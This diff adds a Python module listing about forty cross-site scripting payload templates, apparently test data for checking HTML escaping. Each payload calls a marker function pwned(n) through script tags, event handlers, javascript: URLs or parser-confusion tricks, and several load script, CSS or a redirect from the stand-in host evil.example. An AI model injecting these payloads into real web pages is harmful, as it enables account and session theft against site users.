@@ -1,0 +1,51 @@
+"""Text that would run as a script wherever it is not escaped. Each calls ``pwned(n)``."""
+
+from __future__ import annotations
+
+from typing import Final
+
+_TEMPLATES: Final = (
+    "<script>pwned({n})</script>",
+    "<SCRIPT SRC=//evil.example/{n}.js></SCRIPT>",
+    "<scr<script>ipt>pwned({n})</scr</script>ipt>",
+    "<script\x0c>pwned({n})</script>",
+    "<img src=x onerror=pwned({n})>",
+    "<img src=x onerror='pwned({n})'//",
+    "<img/src=x/onerror=pwned({n})>",
+    '"><img src=x onerror=pwned({n})>',
+    "'><img src=x onerror=pwned({n})>",
+    '" autofocus onfocus=pwned({n}) x="',
+    "' onmouseover='pwned({n})",
+    "<svg onload=pwned({n})>",
+    "<svg><script>pwned({n})</script></svg>",
+    "<svg><animate onbegin=pwned({n}) attributeName=x dur=1s>",
+    "<svg/onload=pwned({n})//",
+    "<body onload=pwned({n})>",
+    "<iframe srcdoc='<script>parent.pwned({n})</script>'></iframe>",
+    "<iframe src=javascript:parent.pwned({n})></iframe>",
+    "<iframe src='data:text/html,<script>parent.pwned({n})</script>'></iframe>",
+    "<object data=javascript:pwned({n})></object>",
+    "<embed src=javascript:pwned({n})>",
+    "<a href=javascript:pwned({n})>click</a>",
+    "<a href='java\tscript:pwned({n})'>click</a>",
+    "<form action=javascript:pwned({n})><button>go</button></form>",
+    "<button formaction=javascript:pwned({n})>go</button>",
+    "<input autofocus onfocus=pwned({n})>",
+    "<select autofocus onfocus=pwned({n})>",
+    "<textarea autofocus onfocus=pwned({n})>",
+    "<video><source onerror=pwned({n})></video>",
+    "<audio src=x onerror=pwned({n})>",
+    "<details open ontoggle=pwned({n})>",
+    "<marquee onstart=pwned({n})>",
+    "<meta http-equiv=refresh content='0;url=javascript:pwned({n})'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/{n}'>",
+    "<base href='javascript:pwned({n})//'>",
+    "<link rel=stylesheet href='data:text/css,*{{background:url(javascript:pwned({n}))}}'>",
+    "<style>@import 'https://evil.example/{n}.css';</style>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=pwned({n})>",
+    "</title></textarea></pre><script>pwned({n})</script>",
+    "<noscript><p title='</noscript><img src=x onerror=pwned({n})>'>",
+    "{{{{ 7 * 7 }}}}<script>pwned({n})</script>",
+    "<!--><script>pwned({n})</script>-->",
+)
+PAYLOADS: Final = tuple(text.format(n=n) for n, text in enumerate(_TEMPLATES))
